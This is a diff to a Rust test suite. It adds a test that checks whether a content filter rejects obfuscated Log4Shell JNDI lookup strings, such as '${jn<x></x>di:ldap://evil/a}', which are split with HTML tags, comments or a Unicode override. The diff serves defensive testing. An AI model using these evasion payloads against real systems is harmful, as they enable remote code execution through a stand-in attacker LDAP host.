@@ -75,6 +75,20 @@ fn what_is_taken_out_is_gone_and_counted_and_the_rest_stays() {
 }
 
 #[test]
+fn an_attack_whose_parts_stand_around_what_is_taken_out_is_refused() {
+    let mut bench = Bench::with(TYPES);
+    for (kind, payload) in [
+        ("post", r#"{"text":"${jn<x></x>di:ldap://evil/a}"}"#),
+        ("post", r#"{"text":"${j<!-- -->ndi<x y=\"z\">:ldap://evil/a}"}"#),
+        ("post", r#"{"notes":["${jn<b>d</b>i:ldap://evil/a}"]}"#),
+        ("chat", r#"{"text":"${jn\u202edi:ldap://evil/a}"}"#),
+    ] {
+        let reject = through(&mut bench, kind, payload).expect_err(payload);
+        assert_eq!(reject.code, Code::Forbidden, "{payload}");
+    }
+}
+
+#[test]
 fn benign_payloads_pass_byte_for_byte() {
     let mut bench = Bench::with(TYPES);
     for text in BENIGN {
